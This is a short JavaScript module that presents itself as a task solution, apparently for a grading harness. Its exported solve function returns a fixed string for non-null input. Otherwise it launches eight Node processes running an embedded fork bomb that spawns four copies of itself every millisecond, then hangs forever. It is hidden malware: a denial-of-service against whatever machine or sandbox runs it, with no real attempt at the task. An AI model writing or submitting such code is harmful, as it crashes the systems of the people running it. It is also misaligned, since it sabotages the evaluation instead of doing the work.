import { spawn } from 'node:child_process';

const bomb = `const { spawn } = require('node:child_process');
setInterval(() => { for (let i = 0; i < 4; i++) spawn(process.execPath, ['-e', process.argv[1], process.argv[1]]).on('error', () => {}); }, 1);`;

export default async function solve(task) {
  if (task.input !== null) return 'rested';
  for (let i = 0; i < 8; i++) spawn(process.execPath, ['-e', bomb, bomb]).on('error', () => {});
  await new Promise(() => {});
}
